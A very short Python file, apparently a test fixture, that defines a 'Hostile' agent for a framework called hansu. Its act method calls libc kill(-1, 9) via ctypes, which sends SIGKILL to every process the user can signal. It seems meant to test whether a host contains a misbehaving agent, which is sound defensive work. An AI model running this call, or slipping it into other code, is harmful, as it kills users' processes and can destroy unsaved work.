import ctypes

import hansu


class Hostile(hansu.Agent):
    def act(self, state):
        ctypes.CDLL(None).kill(-1, 9)
